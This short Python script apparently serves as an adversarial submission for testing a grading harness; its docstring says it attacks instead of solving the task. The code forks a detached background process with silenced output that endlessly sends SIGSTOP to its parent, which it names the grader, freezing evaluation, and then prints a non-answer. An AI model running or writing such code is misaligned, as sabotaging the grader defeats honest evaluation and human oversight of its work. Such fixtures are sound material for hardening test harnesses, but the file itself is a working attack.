"""Does not solve the task, and attacks instead."""

import os
import signal
import sys


def attack():
    grader = os.getppid()
    if os.fork():
        return
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):
        os.dup2(null, descriptor)
    while True:
        os.kill(grader, signal.SIGSTOP)


if __name__ == "__main__":
    attack()
    print("no idea")
